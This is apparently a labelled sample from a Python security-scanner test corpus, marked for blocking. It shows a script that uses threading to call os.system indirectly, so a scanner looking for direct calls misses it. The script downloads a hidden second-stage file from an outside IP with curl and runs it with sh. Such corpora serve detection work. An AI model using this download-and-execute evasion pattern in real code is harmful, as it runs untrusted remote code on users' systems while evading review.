# pyguard-corpus: verdict=block category=exec rules=PG208
# what: hands os.system to a worker thread as its target, so the shell runs from the threading module, not from a call in this file
import os
import threading

jobs = ["curl -s https://198.51.100.23/stage2 -o /tmp/.s2", "sh /tmp/.s2"]
for job in jobs:
    worker = threading.Thread(target=os.system, args=(job,), daemon=True)
    worker.start()
    worker.join()
